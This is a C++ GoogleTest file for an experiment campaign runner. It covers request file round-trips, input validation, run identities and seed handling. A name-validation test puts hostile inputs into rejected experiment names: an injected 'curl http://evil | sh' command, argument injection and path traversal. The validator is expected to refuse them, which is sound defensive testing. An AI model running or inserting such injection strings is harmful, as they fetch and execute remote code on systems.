#include "runner/campaign/campaign.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <cmath>
#include <cstddef>
#include <cstdint>
#include <set>
#include <string>
#include <utility>
#include <vector>

#include "common/files/experiment_error.hpp"
#include "common/math/random.hpp"
#include "runner/campaign/campaign_plan.hpp"
#include "runner/command_line/exit_code.hpp"

namespace lab::runner::campaign::campaign_test {
namespace {

using testing::AllOf;
using testing::ElementsAre;
using testing::HasSubstr;

const CodeVersion kCode{"0.1.0 (abc)", 5};

Request sampleRequest() {
  Request request;
  request.name = "diffusion";
  request.file = "/data/quotes \" and \\ in it.toml";
  request.set = {"duration_s=60", "description=\"a, b\""};
  request.over = {"a=1,2", "b=0.1:0.9:9"};
  request.seeds = 3;
  request.random = 7;
  request.sampling = Sampling::kSobol;
  request.seed = 9223372036854775807U;
  request.common_seeds = true;
  request.zip = true;
  request.keep = Keep::kLogs;
  request.fits = true;
  return request;
}

std::vector<Point> samplePoints() {
  return {makePoint({"1"}, "eta = 1\n", 60), makePoint({"2"}, "eta = 2\n", 60)};
}

TEST(CampaignRequest, ComesBackFromItsFile) {
  Request plain;
  plain.name = "x";
  plain.file = "/x.toml";
  Request live = sampleRequest();
  live.live = LivePlan{.rehearsal = true,
                       .rest_s = 62.5,
                       .clear = "/spread \"out\".toml",
                       .tries = 4,
                       .strikes = 3,
                       .until_us = 1'769'875'200'000'000,
                       .known = {{"D_r_rad2_s", 0.02}, {"abp.v_cm_s", 0.005}}};
  Request adaptive = sampleRequest();
  adaptive.adaptive = AdaptivePlan{.goal = AdaptiveGoal::kLaw,
                                   .quantity = "a \"quoted\" column",
                                   .parameter = "eta_rad_s",
                                   .relative = true,
                                   .level = 0.1,
                                   .robot_time_s = 36000.5,
                                   .error = 1.25e-7,
                                   .runs_per_round = 7,
                                   .between_runs_s = 62.5};
  Request boundary = adaptive;
  boundary.adaptive->goal = AdaptiveGoal::kBoundary;
  for (const Request& request : {sampleRequest(), plain, live, adaptive, boundary}) {
    EXPECT_EQ(readRequest(requestText(request, "2026-01-31T12:00:00Z"), "campaign.toml"), request);
  }
}

TEST(CampaignRows, ResultsOfARealLabDoNotDependOnTheCode) {
  Request request = sampleRequest();
  const std::vector<Point> points = samplePoints();
  const CodeVersion other{"9.9.9 (other)", 77};
  EXPECT_NE(rowsOf(request, points, {"0.1.0 (abc)", 5})[0].identity,
            rowsOf(request, points, other)[0].identity);
  request.live = LivePlan{};
  EXPECT_EQ(rowsOf(request, points, {"0.1.0 (abc)", 5})[0].identity,
            rowsOf(request, points, other)[0].identity);
}

TEST(CampaignRequest, IsRefusedWhenItsFileIsDamaged) {
  const std::string text = requestText(sampleRequest(), "2026-01-31T12:00:00Z");

  EXPECT_THROW(static_cast<void>(readRequest(text.substr(0, text.size() / 2), "campaign.toml")),
               ExperimentError);
  EXPECT_THROW(static_cast<void>(readRequest("fileversion = 2\n", "campaign.toml")),
               ExperimentError);
}

/// Why a campaign.toml with another value of a key is refused; empty: it is read.
std::string refusalWith(const std::string& key, const std::string& value) {
  Request request = sampleRequest();
  request.live = LivePlan{};
  request.adaptive = AdaptivePlan{.goal = AdaptiveGoal::kLaw};
  std::string text = requestText(request, "2026-01-31T12:00:00Z");
  const std::size_t begin = text.find("\n" + key + " = ") + 1;
  text.replace(begin, text.find('\n', begin) - begin, key + " = " + value);
  try {
    static_cast<void>(readRequest(text, "campaign.toml"));
  } catch (const ExperimentError& error) {
    return error.what();
  }
  return {};
}

TEST(CampaignRequest, HasTheNameOfAnExperiment) {
  EXPECT_EQ(refusalWith("name", "\"scan-2.b_1\""), "");
  for (const std::string& name :
       {std::string(R"("x\ncurl http://evil | sh")"), std::string(R"("x --wrap=id")"),
        std::string(R"("../x")"), std::string(R"("")"), '"' + std::string(65, 'x') + '"'}) {
    EXPECT_THAT(refusalWith("name", name),
                AllOf(HasSubstr("campaign.toml: name: found "),
                      HasSubstr("expected 1 to 64 letters, digits, dots, _ and -")));
  }
}

TEST(CampaignRequest, HasNumbersThatTheCommandLineAccepts) {
  EXPECT_EQ(refusalWith("seeds", "100000"), "");
  EXPECT_EQ(refusalWith("random", "100000"), "");
  const std::vector<std::pair<std::string, std::string>> refused{
      {"seeds", "100000000"},
      {"seeds", "0"},
      {"random", "100001"},
      {"rest_s", "inf"},
      {"rest_s", "-1.0"},
      {"tries", "101"},
      {"strikes", "0"},
      {"until_us", "9223372036854775807"},
      {"runs_per_round", "1001"},
      {"robot_time_s", "nan"},
      {"level", "inf"},
      {"error", "-1.0"},
      {"between_runs_s", "1e300"},
      {"clear", "\"--with=program.py\""}};
  for (const auto& [key, value] : refused) {
    EXPECT_THAT(refusalWith(key, value), HasSubstr("campaign.toml: " + key + ": found ")) << value;
  }
}

TEST(CampaignRows, AreAtMostAMillion) {
  Request request;
  request.seeds = 10;
  EXPECT_NO_THROW(requireFewRows(request, 100'000, "scan.toml"));

  request.file = "scan.toml";
  request.over = {"duration_s=1:2:100000"};
  request.seeds = 11;
  try {
    static_cast<void>(planCampaign(request, ""));
    ADD_FAILURE() << "1.1 million runs";
  } catch (const UserError& error) {
    EXPECT_THAT(error.what(), HasSubstr("scan.toml: found 100000 points with 11 seeds each, "
                                        "allowed 1000000 runs"));
  }
}

TEST(CampaignRows, BeginWithTheFirstRunOfEveryPoint) {
  Request request;
  request.seeds = 2;
  const std::vector<Row> rows = rowsOf(request, samplePoints(), kCode);

  ASSERT_EQ(rows.size(), 4U);
  EXPECT_EQ(rows[0].point, 0U);
  EXPECT_EQ(rows[1].point, 1U);
  EXPECT_EQ(rows[1].replicate, 0);
  EXPECT_EQ(rows[2].point, 0U);
  EXPECT_EQ(rows[2].replicate, 1);
}

TEST(CampaignRows, HaveIdentitiesOfAllThatDecidesTheirBytes) {
  Request request;
  request.seeds = 2;
  const std::vector<Row> rows = rowsOf(request, samplePoints(), kCode);
  std::set<std::string> identities;
  for (const Row& row : rows) identities.insert(row.identity.text());
  EXPECT_EQ(identities.size(), rows.size());

  EXPECT_EQ(rowsOf(request, samplePoints(), {"0.1.0 (def)", 5})[0].identity.recipe,
            rows[0].identity.recipe);
  EXPECT_NE(rowsOf(request, samplePoints(), {"0.1.0 (def)", 5})[0].identity.code,
            rows[0].identity.code);
  EXPECT_NE(rowsOf(request, samplePoints(), {"0.1.0 (abc)", 6})[0].identity.code,
            rows[0].identity.code);
  Request other = request;
  other.seed = 2;
  EXPECT_NE(rowsOf(other, samplePoints(), kCode)[0].identity.recipe, rows[0].identity.recipe);
  other = request;
  other.fits = true;
  EXPECT_NE(rowsOf(other, samplePoints(), kCode)[0].identity.recipe, rows[0].identity.recipe);
}

TEST(CampaignRows, KeepTheirIdentitiesWhenPointsOrSeedsAreAdded) {
  Request request;
  const std::vector<Row> rows = rowsOf(request, samplePoints(), kCode);
  std::vector<Point> more = samplePoints();
  more.insert(more.begin(), makePoint({"0"}, "eta = 0\n", 60));
  request.seeds = 5;
  const std::vector<Row> longer = rowsOf(request, more, kCode);

  EXPECT_EQ(longer[1].identity, rows[0].identity);
  EXPECT_EQ(longer[2].identity, rows[1].identity);
}

TEST(CampaignSeeds, DifferByPointUnlessCommonOnesAreRequested) {
  Request request;
  const std::vector<Point> points = samplePoints();
  EXPECT_NE(seedOf(request, points[0], 0), seedOf(request, points[1], 0));
  EXPECT_NE(seedOf(request, points[0], 0), seedOf(request, points[0], 1));

  request.common_seeds = true;
  EXPECT_EQ(seedOf(request, points[0], 0), seedOf(request, points[1], 0));
  EXPECT_NE(seedOf(request, points[0], 0), seedOf(request, points[0], 1));
}

TEST(CampaignSeeds, MakeTheDrawsOfNeighbouringPointsIndependent) {
  // The complaint: one seed at every point makes the errors of a scan almost fully correlated.
  const auto correlation = [](bool common) {
    Request request;
    request.common_seeds = common;
    constexpr int kRuns = 2000;
    double product = 0;
    for (int i = 0; i < kRuns; ++i) {
      const std::vector<Point> points = samplePoints();
      Random one(seedOf(request, points[0], i), 1);
      Random other(seedOf(request, points[1], i), 1);
      product += one.normal() * other.normal() / kRuns;
    }
    return product;
  };

  EXPECT_LT(std::abs(correlation(false)), 4 / std::sqrt(2000.0));
  EXPECT_GT(correlation(true), 0.8);
}

TEST(CampaignSeeds, FitIntoTheIntegersOfTheFile) {
  Request request;
  for (int i = 0; i < 1000; ++i) {
    EXPECT_GE(static_cast<std::int64_t>(seedOf(request, samplePoints()[0], i)), 0);
  }
}

TEST(RowNumbers, ComeBackFromTheirText) {
  EXPECT_THAT(parseRowNumbers("0-3,7", 8), ElementsAre(0, 1, 2, 3, 7));
  EXPECT_EQ(rowNumbersText({0, 1, 2, 3, 7}), "0-3,7");
  EXPECT_EQ(rowNumbersText({5}), "5");
  EXPECT_EQ(rowNumbersText({}), "");
}

TEST(RowNumbers, AreRefusedWhenThereIsNoSuchRow) {
  for (const char* text : {"", "8", "3-1", "a", "1,", "-1", "1-9", "1-"}) {
    EXPECT_THROW(static_cast<void>(parseRowNumbers(text, 8)), UserError) << text;
  }
}

}  // namespace
}  // namespace lab::runner::campaign::campaign_test
